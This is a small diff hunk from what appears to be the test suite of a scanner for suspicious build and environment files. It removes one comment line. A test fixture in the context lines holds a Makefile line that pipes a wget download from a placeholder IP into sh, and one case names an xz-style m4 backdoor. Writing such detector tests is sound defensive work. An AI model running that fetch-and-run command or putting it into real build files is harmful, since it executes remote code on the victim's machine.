@@ -27,7 +27,6 @@ silent("envrc_plain", "envrc_fetches_or_decodes", "app/.envrc", "envrc-flake", a
 fires("envrc_new", "envrc_added", "warning", ".envrc", "envrc-flake")
 silent("envrc_example", "envrc_added", ".envrc.example", "envrc-flake")
 
-# Build files of other ecosystems, and evasions of the make/CMake ones.
 fires("makefile_crlf_wget", "build_script_downloads_and_runs", "critical", "Makefile",
       "Makefile-crlf", "all:\r\n\t@wget -qO- http://203.0.113.4/b | sh\r\n\tgcc -o app main.c\r\n")
 fires("m4_xz_backdoor", "build_script_injection", "high", "m4/build-to-host.m4",
